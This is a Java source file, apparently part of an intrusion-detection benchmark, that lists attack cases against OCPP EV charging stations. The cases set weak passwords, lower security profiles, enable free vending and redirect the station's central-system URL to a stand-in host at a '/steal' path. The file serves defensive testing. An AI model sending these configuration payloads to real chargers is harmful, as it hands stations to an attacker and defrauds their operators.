// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.unseen;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.ferrule.benchmarks.ids.attack.Attack;
import io.ferrule.benchmarks.ids.simulation.Json;
import java.util.ArrayList;
import java.util.List;

/** A46: settings that open a station. */
final class SettingAttacks {

    private SettingAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        List.of(
                        List.of("SecurityCtrlr", "BasicAuthPassword", "letmein-letmein"),
                        List.of("SecurityCtrlr", "SecurityProfile", "1"),
                        List.of("OCPPCommCtrlr", "HeartbeatInterval", "1"))
                .forEach(v -> all.add(new Attack("A46", "2.0.1: " + v.get(1) + " = " + v.get(2), s -> s.modern()
                        .channel()
                        .command("SetVariables", variables(v), Json.object("setVariableResult", Json.array())))));
        List.of(
                        List.of("BackendUrl", "wss://198.51.100.9/"),
                        List.of("FtpPassword", "hunter2"),
                        List.of("MeterValueSampleInterval", "0"),
                        List.of("FreeVend", "true"))
                .forEach(v -> all.add(new Attack(
                        "A46",
                        v.get(0) + " = " + v.get(1),
                        s -> s.command("ChangeConfiguration", Json.object("key", v.get(0), "value", v.get(1))))));
        all.add(new Attack(
                "A46",
                "another CSMS for 2.0.1",
                s -> s.command(
                        s.modern(),
                        "SetNetworkProfile",
                        Json.object(
                                "configurationSlot",
                                1,
                                "connectionData",
                                Json.object(
                                        "ocppVersion", "OCPP20",
                                        "ocppTransport", "JSON",
                                        "ocppCsmsUrl", "ws://198.51.100.9/steal",
                                        "messageTimeout", 30,
                                        "securityProfile", 0,
                                        "ocppInterface", "Wired0")))));
        return all;
    }

    private static ObjectNode variables(List<String> names) {
        return Json.object(
                "setVariableData",
                Json.array(Json.object(
                        "attributeValue", names.get(2),
                        "component", Json.object("name", names.get(0)),
                        "variable", Json.object("name", names.get(1)))));
    }
}
